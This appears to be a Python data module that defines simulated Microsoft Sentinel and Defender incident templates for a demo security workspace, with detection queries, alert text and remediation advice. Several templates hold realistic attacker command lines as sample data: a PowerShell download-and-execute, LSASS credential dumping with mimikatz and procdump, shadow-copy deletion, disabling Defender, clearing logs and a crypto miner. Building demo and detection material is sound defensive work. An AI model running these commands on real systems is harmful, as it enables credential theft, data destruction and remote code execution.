"""Alert and incident templates: what the demo workspace's detections look like.

A ``Template`` is one kind of incident (a Sentinel analytics rule or a Defender product's detection):
its title, description, severity and outcome mix, and an ``AlertSpec`` for each alert it can hold.
``NOISE`` holds the standalone low-severity alerts. Data plus the two small dataclasses describing it,
kept apart from the mechanics that draw from it.
"""

from __future__ import annotations

from dataclasses import dataclass

from bot.demo.catalog import PS_DIR, PS_PAYLOAD, SYS32
from bot.demo.values import compact_json


@dataclass(frozen=True)
class AlertSpec:
    name: str
    product: str
    tactics: tuple[str, ...]
    techniques: tuple[str, ...]  # "T1110.003" gives Techniques T1110 and SubTechniques T1110.003
    entities: tuple[str, ...]
    alert_type: str = ""  # for Sentinel rules the AlertType is "<tenant>_<rule id>"
    severity: str | None = None  # fixed severity (capped at the incident's), else inherits

    def technique_columns(self) -> tuple[str, str]:
        """(Techniques, SubTechniques) column values: JSON arrays as text, "" when there are no sub-techniques."""
        parents: list[str] = []
        subs: list[str] = []
        for technique in self.techniques:
            parent = technique.split(".")[0]
            if parent not in parents:
                parents.append(parent)
            if "." in technique and technique not in subs:
                subs.append(technique)
        return compact_json(parents), compact_json(subs) if subs else ""


@dataclass(frozen=True)
class Template:
    key: str
    title: str
    description: str
    severity: tuple[float, float, float, float]  # High, Medium, Low, Informational weights
    alerts: tuple[AlertSpec, ...]  # the first is the primary alert
    weight: float = 1.0
    outcome: tuple[float, float, float, float] = (0.3, 0.3, 0.25, 0.15)  # TP, BP, FP, Undetermined
    host: str = "user"  # user (the user's workstation) | any (workstation or server) | server | linux
    user: str = "user"  # user | svc | local
    query: str = ""  # Sentinel rules: the rule query (ExtendedProperties)
    period: str = "01:00:00"
    commands: tuple[tuple[str, str, str], ...] = ()  # (directory, image, command line)
    files: tuple[tuple[str, str], ...] = ()
    resource: str = ""  # Defender for Cloud: "vm" or "keyvault"
    remediation: tuple[str, ...] = ()  # RemediationSteps, written as a JSON array of strings
    app: tuple[str, int] | None = None  # the cloud application, when the rule is about one


def _a(name, product, tactics, techniques, entities, alert_type="", severity=None):
    return AlertSpec(name, product, tuple(tactics.split(",")), tuple(techniques.split(",")) if techniques else (),
                     tuple(entities.split(",")), alert_type, severity)


TEMPLATES = (
    Template(
        "failed_then_success", "Multiple failed sign-ins followed by success",
        "{n} failed sign-ins for {upn} from {ip} ({city}, {country}) were followed by a successful sign-in from the "
        "same address within 20 minutes. The failures returned error 50126 (invalid username or password).",
        (0.25, 0.5, 0.25, 0.0),
        (_a("Multiple failed sign-ins followed by success", "SENT", "CredentialAccess,InitialAccess",
            "T1110.001,T1078.004", "account,ip"),
         _a("Unfamiliar sign-in properties", "IPC", "InitialAccess", "T1078", "account,ip", "UnfamiliarLocation"),
         _a("Anonymous IP address", "IPC", "InitialAccess", "T1078", "account,ip", "AnonymousLogin")),
        weight=1.4, outcome=(0.35, 0.3, 0.2, 0.15),
        query="let failures = SigninLogs | where ResultType == \"50126\" | summarize Failures = count() by "
              "UserPrincipalName, IPAddress, bin(TimeGenerated, 20m) | where Failures > 10;\n"
              "failures | join kind=inner "
              "(SigninLogs | where ResultType == \"0\") on UserPrincipalName, IPAddress",
    ),
    Template(
        "brute_portal", "Brute force attack against Azure Portal",
        "Sign-in logs show {n} failed attempts to sign in to the Azure Portal as {upn} from {ip} ({country}) within "
        "30 minutes. No successful sign-in followed.",
        (0.05, 0.45, 0.4, 0.1),
        (_a("Brute force attack against Azure Portal", "SENT", "CredentialAccess", "T1110.001", "account,ip,app"),),
        weight=1.0, outcome=(0.2, 0.3, 0.3, 0.2), app=("Azure Portal", 12260),
        query="SigninLogs | where AppDisplayName == \"Azure Portal\" | where ResultType in (\"50126\", \"50053\") | "
              "summarize FailedAttempts = count() by UserPrincipalName, IPAddress | where FailedAttempts > 25",
        period="1.00:00:00",
    ),
    Template(
        "password_spray", "Password spray attack against Microsoft Entra ID application",
        "A single source ({ip}, {country}) attempted sign-ins against {n} distinct accounts with a small set of "
        "common passwords. Error codes 50126 and 50053 dominate; at least one account ({upn}) was targeted repeatedly.",
        (0.3, 0.55, 0.15, 0.0),
        (_a("Password spray attack against Microsoft Entra ID application", "SENT", "CredentialAccess", "T1110.003",
            "account,ip"),),
        weight=0.5, outcome=(0.45, 0.25, 0.15, 0.15),
        query="SigninLogs | where ResultType in (\"50126\", \"50053\") | "
              "summarize Accounts = dcount(UserPrincipalName), Attempts = count() by IPAddress, "
              "bin(TimeGenerated, 10m) | where Accounts > 10",
        period="01:00:00",
    ),
    Template(
        "impossible_travel", "Impossible travel activity",
        "{upn} signed in from {city2} ({ip2}) and {minutes} minutes later from {city}, {country} ({ip}). The distance "
        "between the two locations cannot be travelled in that time.",
        (0.1, 0.5, 0.4, 0.0),
        (_a("Impossible travel activity", "MDA", "InitialAccess", "T1078.004", "account,ip,ip2,app",
            "MCAS_ALERT_ANUBIS_DETECTION_IMPOSSIBLE_TRAVEL"),
         _a("Atypical travel", "IPC", "InitialAccess", "T1078", "account,ip", "ImpossibleTravel")),
        weight=1.3, outcome=(0.2, 0.45, 0.25, 0.1),
    ),
    Template(
        "anonymous_ip", "Sign-in from anonymous IP address",
        "Sign-in by {upn} from {ip}, an address identified as a Tor exit node or anonymizing VPN. The sign-in "
        "satisfied single-factor authentication only.",
        (0.0, 0.3, 0.5, 0.2),
        (_a("Anonymous IP address", "IPC", "InitialAccess", "T1078,T1090.003", "account,ip", "AnonymousLogin"),),
        weight=1.0, outcome=(0.15, 0.45, 0.25, 0.15),
    ),
    Template(
        "leaked_credentials", "Leaked credentials detected for user",
        "Microsoft found valid credentials for {upn} in a public credential dump. The leaked password matches the "
        "user's current password hash.",
        (0.4, 0.5, 0.1, 0.0),
        (_a("Leaked credentials", "IPC", "CredentialAccess", "T1078", "account", "LeakedCredentials"),),
        weight=0.5, outcome=(0.6, 0.2, 0.05, 0.15),
    ),
    Template(
        "mfa_fatigue", "Multiple MFA push notifications denied by user",
        "{upn} denied {n2} MFA push requests within 15 minutes for sign-ins originating from {ip} ({city}, "
        "{country}). This pattern is typical of MFA fatigue attacks after a password compromise.",
        (0.35, 0.5, 0.15, 0.0),
        (_a("Multiple MFA push notifications denied by user", "SENT", "CredentialAccess", "T1621", "account,ip"),
         _a("Unfamiliar sign-in properties", "IPC", "InitialAccess", "T1078", "account,ip", "UnfamiliarLocation")),
        weight=0.8, outcome=(0.5, 0.2, 0.15, 0.15),
        query="SigninLogs | where ResultType == \"500121\" | where Status.additionalDetails == \"MFA denied; user "
              "declined the authentication\" | summarize Denials = count() by UserPrincipalName, IPAddress | "
              "where Denials >= 3",
    ),
    Template(
        "privileged_role", "User added to privileged Microsoft Entra ID role",
        "{actor} added {upn} to the '{role}' role outside of Privileged Identity Management. The change was made "
        "from {ip2}.",
        (0.1, 0.35, 0.3, 0.25),
        (_a("User added to privileged Microsoft Entra ID role", "SENT", "PrivilegeEscalation,Persistence",
            "T1098.003", "account,account2,ip2"),),
        weight=0.8, outcome=(0.15, 0.6, 0.15, 0.1),
        query="AuditLogs | where OperationName == \"Add member to role\" | mv-expand TargetResources | "
              "where TargetResources.modifiedProperties has_any (\"Global Administrator\", \"Privileged Role "
              "Administrator\")",
    ),
    Template(
        "oauth_consent", "Rare application consent",
        "{upn} granted consent to '{oauth_app}' (publisher unverified) with Mail.Read, Files.ReadWrite.All and "
        "offline_access permissions. Fewer than 3 users in the tenant have consented to this application.",
        (0.15, 0.5, 0.35, 0.0),
        (_a("Rare application consent", "SENT", "Persistence,CredentialAccess", "T1528,T1550.001",
            "account,oauth,ip"),
         _a("Unusual addition of credentials to an OAuth app", "MDA", "CredentialAccess", "T1528", "account,oauth",
            "MCAS_ALERT_OAUTH_CREDENTIALS_ADDED")),
        weight=0.6, outcome=(0.3, 0.35, 0.2, 0.15),
        query="AuditLogs | where OperationName == \"Consent to application\" | extend AppName = "
              "tostring(TargetResources[0].displayName) | join kind=leftanti (AuditLogs | where TimeGenerated > "
              "ago(14d) | where OperationName == \"Consent to application\") on AppName",
        period="1.00:00:00",
    ),
    Template(
        "phish_click", "Phishing email delivered then clicked",
        "A phishing email from {sender} with subject \"{subject}\" was delivered to {upn}. The link {url} was clicked "
        "before zero-hour auto purge removed the message.",
        (0.45, 0.45, 0.1, 0.0),
        (_a("A potentially malicious URL click was detected", "MDO", "InitialAccess,Execution", "T1566.002,T1204.001",
            "account,mailbox,url,ip", "ThreatManagement"),
         _a("Email messages containing malicious URL removed after delivery", "MDO", "InitialAccess", "T1566.002",
            "mailbox,url", "ThreatManagement", "Informational"),
         _a("Unfamiliar sign-in properties", "IPC", "InitialAccess", "T1078", "account,ip", "UnfamiliarLocation")),
        weight=1.4, outcome=(0.55, 0.1, 0.2, 0.15),
    ),
    Template(
        "malware_attachment", "Email messages containing malware removed after delivery",
        "Zero-hour auto purge removed {n2} messages from {sender} with the subject \"{subject}\" and the attachment "
        "'{file}' after delivery, including one to {upn}. The attachment was detonated in a sandbox and found "
        "malicious.",
        (0.0, 0.25, 0.35, 0.4),
        (_a("Email messages containing malware removed after delivery", "MDO", "InitialAccess", "T1566.001",
            "account,mailbox,file", "ThreatManagement"),),
        weight=1.0, outcome=(0.35, 0.4, 0.1, 0.15),
        files=(("", "Remittance_Advice.zip"), ("", "Invoice_8823.html"), ("", "Q3_budget.xlsm")),
    ),
    Template(
        "inbox_forwarding", "Suspicious inbox forwarding rule",
        "{upn} created the inbox rule \"{rule}\" that forwards messages containing 'invoice', 'payment' or 'wire' "
        "to {fwd} and marks them as read. The rule was created from {ip} ({city}, {country}).",
        (0.2, 0.5, 0.3, 0.0),
        (_a("Suspicious inbox forwarding rule", "MDA", "Collection,Exfiltration", "T1114.003,T1020",
            "account,mailbox,ip", "MCAS_ALERT_ANUBIS_DETECTION_SUSPICIOUS_INBOX_FORWARDING"),
         _a("Suspicious email forwarding activity", "MDO", "Exfiltration", "T1114.003", "account,mailbox",
            "ThreatManagement")),
        weight=1.0, outcome=(0.4, 0.3, 0.15, 0.15),
    ),
    Template(
        "mass_download", "Mass download by a single user",
        "{upn} downloaded {n} files from {app} in {minutes} minutes, far above the user's baseline. The downloads "
        "came from {ip} ({city}, {country}).",
        (0.1, 0.45, 0.45, 0.0),
        (_a("Mass download by a single user", "MDA", "Collection,Exfiltration", "T1530,T1567.002", "account,ip,app",
            "MCAS_ALERT_ANUBIS_DETECTION_MASS_DOWNLOAD"),),
        weight=1.1, outcome=(0.2, 0.5, 0.15, 0.15),
    ),
    Template(
        "personal_upload", "Large upload to personal file-sharing domain",
        "{host} (signed in as {upn}) uploaded {mb} MB to {url} within one hour. The domain is not sanctioned for "
        "corporate data.",
        (0.0, 0.4, 0.5, 0.1),
        (_a("Large upload to personal file-sharing domain", "SENT", "Exfiltration", "T1567.002", "account,host,url"),),
        weight=0.7, outcome=(0.2, 0.5, 0.15, 0.15),
        query="CommonSecurityLog | where RequestMethod == \"POST\" | summarize UploadedMB = sum(SentBytes) / 1048576 "
              "by SourceUserName, DestinationHostName | where UploadedMB > 200",
    ),
    Template(
        "powershell", "Suspicious PowerShell command line",
        "powershell.exe on {host} was launched by {parent} with a command line that downloads and runs content "
        "from {domain}. The command ran as {sam}. Command line: {cmd}",
        (0.2, 0.5, 0.3, 0.0),
        (_a("Suspicious PowerShell command line", "MDE", "Execution,DefenseEvasion", "T1059.001,T1027",
            "host,account,process", "SuspiciousPowerShellCommandLine"),
         _a("Suspicious process executed PowerShell command", "MDE", "Execution", "T1059.001",
            "host,account,process", "SuspiciousProcessPowerShell"),
         _a("Connection to a custom network indicator", "MDE", "CommandAndControl", "T1071.001",
            "host,url,ip", "CustomNetworkIndicator")),
        weight=1.3, outcome=(0.35, 0.3, 0.2, 0.15),
        commands=((PS_DIR, "powershell.exe",
                   "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand "
                   + PS_PAYLOAD),
                  (PS_DIR, "powershell.exe",
                   "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
                   "'http://{domain}/a.ps1')\"")),
    ),
    Template(
        "ransomware", "Ransomware behaviour detected on host",
        "Defender for Endpoint observed {host} renaming {n} files in user shares with the extension '{ext}' and "
        "deleting volume shadow copies. A ransom note 'RESTORE-FILES.txt' was written to multiple folders.",
        (1.0, 0.0, 0.0, 0.0),
        (_a("Ransomware behavior detected in the file system", "MDE", "Impact", "T1486", "host,account,file",
            "RansomwareFileSystemBehavior"),
         _a("File backups were deleted", "MDE", "Impact,DefenseEvasion", "T1490,T1070", "host,account,process",
            "ShadowCopyDeletion"),
         _a("Ransomware behaviour detected on host", "MDE", "Impact", "T1486", "host,account,process,file",
            "RansomwareBehavior")),
        weight=0.5, outcome=(0.8, 0.05, 0.05, 0.1),
        commands=((SYS32, "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
                  (SYS32, "wbem\\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive"),
                  (SYS32, "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no")),
        files=(("C:\\ProgramData\\{ext_dir}", "locker.exe"), ("C:\\Users\\Public", "svchost32.exe")),
    ),
    Template(
        "lsass", "Suspicious access to LSASS service",
        "A process ({cmd_image}) on {host} read memory of the LSASS process in a way consistent with credential "
        "dumping tools. Account: {sam}. Command line: {cmd}",
        (0.6, 0.4, 0.0, 0.0),
        (_a("Suspicious access to LSASS service", "MDE", "CredentialAccess", "T1003.001", "host,account,process",
            "LsassAccess"),
         _a("Mimikatz credential theft tool", "MDE", "CredentialAccess", "T1003.001", "host,account,process,file",
            "MimikatzDetection"),
         _a("Sensitive credential memory read", "MDE", "CredentialAccess", "T1003.001", "host,account,process",
            "SensitiveCredentialMemoryRead")),
        weight=0.9, outcome=(0.55, 0.2, 0.1, 0.15), host="any",
        commands=((SYS32, "rundll32.exe",
                   "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Windows\\Temp\\lsass.dmp full"),
                  ("C:\\Users\\Public", "procdump64.exe",
                   "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp"),
                  ("C:\\ProgramData\\x", "mimikatz.exe",
                   "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit")),
        files=(("C:\\ProgramData\\x", "mimikatz.exe"), ("C:\\Users\\Public", "m64.exe")),
    ),
    Template(
        "rare_service", "Rare process launched as a service",
        "A service was installed on {host} pointing to {cmd_image}, a binary not seen as a service anywhere else in "
        "the estate in the last 14 days. Installed by {sam}.",
        (0.0, 0.4, 0.5, 0.1),
        (_a("Rare process launched as a service", "SENT", "Persistence,PrivilegeEscalation,Execution",
            "T1543.003,T1569.002", "host,account,process"),),
        weight=1.0, outcome=(0.2, 0.45, 0.2, 0.15), host="server",
        query="SecurityEvent | where EventID == 7045 | summarize Hosts = dcount(Computer), Services = make_set("
              "ServiceName) by ImagePath | where Hosts == 1",
        period="14.00:00:00",
        commands=(("C:\\ProgramData\\updater", "svcupd.exe",
                   "sc.exe create UpdaterSvc binPath= \"C:\\ProgramData\\updater\\svcupd.exe\" start= auto"),
                  ("C:\\Windows", "PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe"),
                  ("C:\\Program Files\\Veeam\\Backup", "VeeamDeploymentSvc.exe",
                   "\"C:\\Program Files\\Veeam\\Backup\\VeeamDeploymentSvc.exe\" -service")),
    ),
    Template(
        "defender_tamper", "Attempt to turn off Microsoft Defender Antivirus protection",
        "{sam} ran a command on {host} that disables Microsoft Defender Antivirus real-time protection. "
        "Command line: {cmd}",
        (0.4, 0.6, 0.0, 0.0),
        (_a("Attempt to turn off Microsoft Defender Antivirus protection", "MDE", "DefenseEvasion", "T1562.001",
            "host,account,process", "DefenderTampering"),),
        weight=0.7, outcome=(0.45, 0.3, 0.1, 0.15),
        commands=((PS_DIR, "powershell.exe", "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true"),
                  (SYS32, "reg.exe",
                   "reg.exe add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware "
                   "/t REG_DWORD /d 1 /f")),
    ),
    Template(
        "log_cleared", "Security event log cleared",
        "The Security event log on {host} was cleared by {sam} (event ID 1102).",
        (0.1, 0.6, 0.3, 0.0),
        (_a("Security event log cleared", "SENT", "DefenseEvasion", "T1070.001", "host,account,process"),),
        weight=0.7, outcome=(0.3, 0.4, 0.15, 0.15), host="any",
        query="SecurityEvent | where EventID == 1102 | project TimeGenerated, Computer, Account = SubjectUserName",
        commands=((SYS32, "wevtutil.exe", "wevtutil.exe cl Security"),),
    ),
    Template(
        "scheduled_task", "Suspicious Task Scheduler activity",
        "A scheduled task was created on {host} by {sam} that runs a binary from a user-writable folder at logon. "
        "Command line: {cmd}",
        (0.0, 0.4, 0.5, 0.1),
        (_a("Suspicious Task Scheduler activity", "MDE", "Persistence,Execution", "T1053.005",
            "host,account,process", "SuspiciousScheduledTask"),),
        weight=1.0, outcome=(0.25, 0.35, 0.25, 0.15),
        commands=((SYS32, "schtasks.exe",
                   "schtasks.exe /create /tn \"OneDrive Standalone Update\" /tr \"C:\\Users\\Public\\odupd.exe\" "
                   "/sc onlogon /rl highest /f"),),
    ),
    Template(
        "exploration", "Suspicious sequence of exploration activities",
        "A process on {host} ran a sequence of reconnaissance commands (domain admins, domain trusts, network "
        "configuration) typical of an attacker mapping the environment. Account: {sam}.",
        (0.0, 0.3, 0.5, 0.2),
        (_a("Suspicious sequence of exploration activities", "MDE", "Discovery", "T1087.002,T1069.002,T1016",
            "host,account,process", "ExplorationSequence"),
         _a("Anomalous account lookups", "MDE", "Discovery", "T1087.002", "host,account,process",
            "AnomalousAccountLookups")),
        weight=1.1, outcome=(0.2, 0.45, 0.2, 0.15), host="any",
        commands=((SYS32, "net.exe", "net.exe group \"Domain Admins\" /domain"),
                  (SYS32, "nltest.exe", "nltest.exe /domain_trusts /all_trusts"),
                  ("C:\\Users\\Public", "AdFind.exe", "AdFind.exe -f \"(objectcategory=computer)\" -csv name"),
                  (SYS32, "ipconfig.exe", "ipconfig.exe /all")),
    ),
    Template(
        "rdp", "Anomalous RDP Login Detections",
        "{sam} signed in to {host2} over RDP from {host} ({host_ip}); this account has not used RDP to that server "
        "in the last 30 days.",
        (0.1, 0.5, 0.4, 0.0),
        (_a("Anomalous RDP Login Detections", "SENT", "LateralMovement", "T1021.001", "account,host,host2,ip_int"),),
        weight=0.9, outcome=(0.2, 0.5, 0.15, 0.15),
        query="SecurityEvent | where EventID == 4624 and LogonType == 10 | summarize by Account, Computer, IpAddress "
              "| join kind=leftanti (SecurityEvent | where TimeGenerated between (ago(30d) .. ago(1d))) on Account, "
              "Computer",
        period="1.00:00:00",
    ),
    Template(
        "beaconing", "Potential beaconing activity to rare domain",
        "{host} connected to {domain} ({ip}) every {interval} seconds (+/- 5%) for {hours} hours. The domain was "
        "first seen in the environment today.",
        (0.3, 0.5, 0.2, 0.0),
        (_a("Potential beaconing activity to rare domain", "SENT", "CommandAndControl", "T1071.001,T1573",
            "host,ip,dns,url"),
         _a("Connection to a custom network indicator", "MDE", "CommandAndControl", "T1071.001", "host,url,ip",
            "CustomNetworkIndicator")),
        weight=0.9, outcome=(0.4, 0.2, 0.25, 0.15),
        query="CommonSecurityLog | where DeviceAction != \"deny\" | summarize Connections = count(), "
              "Intervals = make_list(TimeGenerated) by SourceIP, DestinationHostName | where Connections > 100",
        period="1.00:00:00",
    ),
    Template(
        "ti_domain", "TI map Domain entity to DnsEvents",
        "{host} resolved {domain}, a domain listed in threat intelligence as {ti_label} (confidence 85).",
        (0.1, 0.6, 0.3, 0.0),
        (_a("TI map Domain entity to DnsEvents", "SENT", "CommandAndControl", "T1071.004", "host,dns,ip_int"),),
        weight=0.9, outcome=(0.3, 0.25, 0.3, 0.15),
        query="ThreatIntelligenceIndicator | where isnotempty(DomainName) | join kind=inner (DnsEvents | extend "
              "DomainName = tolower(Name)) on DomainName",
    ),
    Template(
        "malware_outbreak", "Malware outbreak: 'Qakbot' detected on multiple devices",
        "Defender for Endpoint detected the same 'Qakbot' loader ({file}) on {n} devices within a few hours, "
        "starting with {host}. Most detections were blocked; some were active.",
        (1.0, 0.0, 0.0, 0.0),
        (_a("'Qakbot' malware was prevented", "MDE", "Execution", "T1204.002", "host,account,file",
            "WindowsDefenderAv", "Low"),
         _a("An active 'Qakbot' malware was detected", "MDE", "Execution,CommandAndControl", "T1204.002,T1071.001",
            "host,account,file", "WindowsDefenderAv", "High")),
        weight=0.0, outcome=(0.9, 0.0, 0.0, 0.1),
        files=(("C:\\Users\\{sam}\\AppData\\Local\\Temp", "Remittance_Advice.js"),),
    ),
    Template(
        "crypto_mining", "Digital currency mining related behavior detected",
        "Analysis of host data on {host} detected the execution of a process normally associated with digital "
        "currency mining. Command line: {cmd}",
        (0.5, 0.5, 0.0, 0.0),
        (_a("Digital currency mining related behavior detected", "MDC", "Impact,Execution", "T1496",
            "host,process,ip", "VM_DigitalCurrencyMining"),),
        weight=0.5, outcome=(0.7, 0.1, 0.05, 0.15), host="linux", user="local", resource="vm",
        commands=(("/tmp/.x", "xmrig", "/tmp/.x/xmrig -o pool.minexmr.example:4444 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSk"
                   " --donate-level 1 -B"),),
        remediation=("Review the process with the VM owner.",
                     "If it is not legitimate, stop it, isolate the VM and rotate its credentials."),
    ),
    Template(
        "ssh_brute", "Failed SSH brute force attack",
        "{n} failed SSH authentication attempts against {host} from {ip} ({country}) were detected. No successful "
        "sign-in followed.",
        (0.0, 0.3, 0.55, 0.15),
        (_a("Failed SSH brute force attack", "MDC", "CredentialAccess", "T1110.001", "host,ip,account",
            "SSH_BruteForceFailed"),),
        weight=0.8, outcome=(0.15, 0.35, 0.3, 0.2), host="linux", user="local", resource="vm",
        remediation=("Restrict SSH to known source addresses with just-in-time VM access.",
                     "Use key-based sign-in and disable password authentication."),
    ),
    Template(
        "blocked_traffic", "Traffic detected from IP addresses recommended for blocking",
        "Defender for Cloud detected inbound traffic to {host} from {ip}, an address recommended for blocking. "
        "This address does not communicate regularly with this resource.",
        (0.0, 0.1, 0.5, 0.4),
        (_a("Traffic detected from IP addresses recommended for blocking", "MDC", "Discovery", "T1046", "host,ip",
            "Network_TrafficFromUnrecommendedIP"),),
        weight=0.8, outcome=(0.1, 0.5, 0.2, 0.2), host="linux", user="local", resource="vm",
        remediation=("Review the network security group rules of this VM.",
                     "Block the address if the traffic is not required."),
    ),
    Template(
        "keyvault", "Unusual volume of operations in a key vault",
        "{upn} performed {n} secret read operations on key vault kv-prod-secrets from {ip} within one hour, far "
        "above the account's usual activity.",
        (0.15, 0.5, 0.35, 0.0),
        (_a("Unusual volume of operations in a key vault", "MDC", "CredentialAccess", "T1555", "account,ip",
            "KV_OperationVolumeAnomaly"),),
        weight=0.5, outcome=(0.25, 0.45, 0.15, 0.15), resource="keyvault",
        remediation=("Confirm the operations with the account owner.",
                     "If they are unexpected, rotate the secrets and review the vault's access policies."),
    ),
    Template(
        "service_account_logon", "Interactive logon by service account",
        "The service account {sam} signed in interactively (logon type 10) to {host} from {host_ip}. Service "
        "accounts are not expected to be used interactively.",
        (0.05, 0.4, 0.35, 0.2),
        (_a("Interactive logon by service account", "SENT", "DefenseEvasion,PrivilegeEscalation", "T1078.002",
            "account,host,ip_int"),),
        weight=0.9, outcome=(0.1, 0.65, 0.1, 0.15), host="server", user="svc",
        query="SecurityEvent | where EventID == 4624 and LogonType in (2, 10) | where Account startswith "
              "\"CONTOSO\\\\svc-\"",
    ),
)
TEMPLATE_BY_KEY = {t.key: t for t in TEMPLATES}

# Standalone noise: (spec, severity weights H/M/L/I, weight, host kind, user kind).
NOISE = (
    (_a("Port scan detected (ASIM Network Session schema)", "SENT", "Discovery", "T1046", "scanner_ip,host"),
     (0.0, 0.0, 0.35, 0.65), 0.22, "server", "user"),
    (_a("Excessive Windows logon failures", "SENT", "CredentialAccess", "T1110", "account,host"),
     (0.0, 0.05, 0.55, 0.4), 0.15, "server", "svc"),
    (_a("Unfamiliar sign-in properties", "IPC", "InitialAccess", "T1078", "account,ip", "UnfamiliarLocation"),
     (0.0, 0.2, 0.6, 0.2), 0.12, "user", "user"),
    (_a("Activity from infrequent country", "MDA", "InitialAccess", "T1078", "account,ip,app",
        "MCAS_ALERT_ANUBIS_DETECTION_ACTIVITY_FROM_INFREQUENT_COUNTRY"),
     (0.0, 0.05, 0.55, 0.4), 0.10, "user", "user"),
    (_a("'{pua}' unwanted software was detected", "MDE", "Execution", "T1204.002", "host,account,file",
        "WindowsDefenderAv"),
     (0.0, 0.0, 0.4, 0.6), 0.13, "kiosk", "user"),
    (_a("Traffic detected from IP addresses recommended for blocking", "MDC", "Discovery", "T1046", "host,ip",
        "Network_TrafficFromUnrecommendedIP"),
     (0.0, 0.0, 0.4, 0.6), 0.08, "linux", "local"),
    (_a("Email messages containing malicious URL removed after delivery", "MDO", "InitialAccess", "T1566.002",
        "mailbox,url", "ThreatManagement"),
     (0.0, 0.0, 0.2, 0.8), 0.08, "user", "user"),
    (_a("Sign-ins from IPs that attempt sign-ins to disabled accounts", "SENT", "InitialAccess,CredentialAccess",
        "T1078,T1110", "account,ip"),
     (0.0, 0.15, 0.6, 0.25), 0.06, "user", "user"),
    (_a("Anomalous account lookups", "MDE", "Discovery", "T1087.002", "host,account,process",
        "AnomalousAccountLookups"),
     (0.0, 0.0, 0.3, 0.7), 0.07, "scanner", "user"),
)
# The remediation steps a Defender product writes on its alerts when the detection has none of its own (Sentinel's
# scheduled rules write none): our wording of the advice those products give.
PRODUCT_REMEDIATION = {
    "MDE": ("Make sure the device is fully updated and its antimalware signatures are current.",
            "Run a full antimalware scan and review the alert's process tree for related activity.",
            "If the activity is not expected, isolate the device and collect an investigation package."),
    "IPC": ("Confirm the sign-in with the user.",
            "If the user did not sign in, reset their password, revoke their sessions and require MFA "
            "registration again."),
    "MDO": ("Review the message and its recipients in Threat Explorer.",
            "Soft-delete the message from every mailbox that received it and block the sender if it is malicious."),
    "MDA": ("Review the user's activity in the cloud app around the alert.",
            "If it is not expected, suspend the user in the app and revoke the app's OAuth grants."),
}

ALERT_DESCRIPTIONS = {  # alerts whose name differs from their incident's title (and the noise)
    "Anonymous IP address": "Sign-in by {upn} from {ip}, an anonymizing proxy or Tor exit node.",
    "Atypical travel": "Two sign-ins by {upn} from locations far apart ({city2} and {city}, {country}) within a "
                       "short time.",
    "Unusual addition of credentials to an OAuth app": "{upn} added a new client secret to the OAuth app "
                                                       "'{oauth_app}'.",
    "A potentially malicious URL click was detected": "{upn} clicked {url} in a message from {sender} with subject "
                                                      "\"{subject}\". The URL was later marked malicious.",
    "Suspicious email forwarding activity": "{upn} forwarded an unusual number of messages to the external address "
                                            "{fwd}.",
    "Suspicious process executed PowerShell command": "A suspicious process on {host} started powershell.exe with "
                                                      "command line: {cmd}",
    "Connection to a custom network indicator": "{host} connected to {url} ({ip}), which matches a custom block "
                                                "indicator.",
    "Ransomware behavior detected in the file system": "Files on {host} were rapidly renamed with the extension "
                                                       "'{ext}' by {file}.",
    "File backups were deleted": "{sam} deleted volume shadow copies on {host}. Command line: {cmd}",
    "Mimikatz credential theft tool": "The Mimikatz credential theft tool ({file}) was detected on {host}.",
    "Sensitive credential memory read": "A process on {host} read sensitive credential memory from lsass.exe.",
    "Anomalous account lookups": "{host} issued an unusual number of account lookup queries against the domain "
                                 "controller as {sam}.",
    "'Qakbot' malware was prevented": "Microsoft Defender Antivirus blocked 'Qakbot' ({file_dir}\\{file}) on {host} "
                                      "for user {sam}.",
    "An active 'Qakbot' malware was detected": "An active 'Qakbot' process ({file}) was detected running on {host} "
                                               "for user {sam}. Remediation was only partially successful.",

    "Port scan detected (ASIM Network Session schema)":
        "{ip} connected to {n} distinct ports on {host} within 10 minutes.",
    "Excessive Windows logon failures": "{n} failed logons (event ID 4625) for {sam} on {host} within one hour.",
    "Unfamiliar sign-in properties": "Sign-in by {upn} from {ip} ({city}, {country}) with properties not seen "
                                     "recently for this user.",
    "Activity from infrequent country": "{upn} performed activity in {app} from {country} ({ip}), a country not "
                                        "visited recently by anyone in the organization.",
    "'{pua}' unwanted software was detected": "Potentially unwanted application '{pua}' was detected on {host} in "
                                              "{file_dir}\\{file}.",
    "Traffic detected from IP addresses recommended for blocking": "Inbound traffic to {host} from {ip}, an address "
                                                                   "recommended for blocking.",
    "Email messages containing malicious URL removed after delivery": "Zero-hour auto purge removed a message to "
                                                                      "{upn} containing the URL {url}.",
    "Sign-ins from IPs that attempt sign-ins to disabled accounts": "{ip} ({country}) attempted sign-ins to {n2} "
                                                                    "disabled accounts and then to {upn}.",
}
NOISE_QUERIES = {
    "Port scan detected (ASIM Network Session schema)":
        "_Im_NetworkSession | where EventResult == \"Failure\" | summarize Ports = dcount(DstPortNumber) by SrcIpAddr, "
        "DstIpAddr, bin(TimeGenerated, 10m) | where Ports > 50",
    "Excessive Windows logon failures":
        "SecurityEvent | where EventID == 4625 | summarize Failures = count() by Account, Computer "
        "| where Failures > 50",
    "Sign-ins from IPs that attempt sign-ins to disabled accounts":
        "SigninLogs | where ResultType == \"50057\" | summarize DisabledAccounts = dcount(UserPrincipalName) by "
        "IPAddress | join kind=inner (SigninLogs | where ResultType == \"0\") on IPAddress",
}
NOISE_CUMULATIVE = tuple(sum(n[2] for n in NOISE[: i + 1]) for i in range(len(NOISE)))
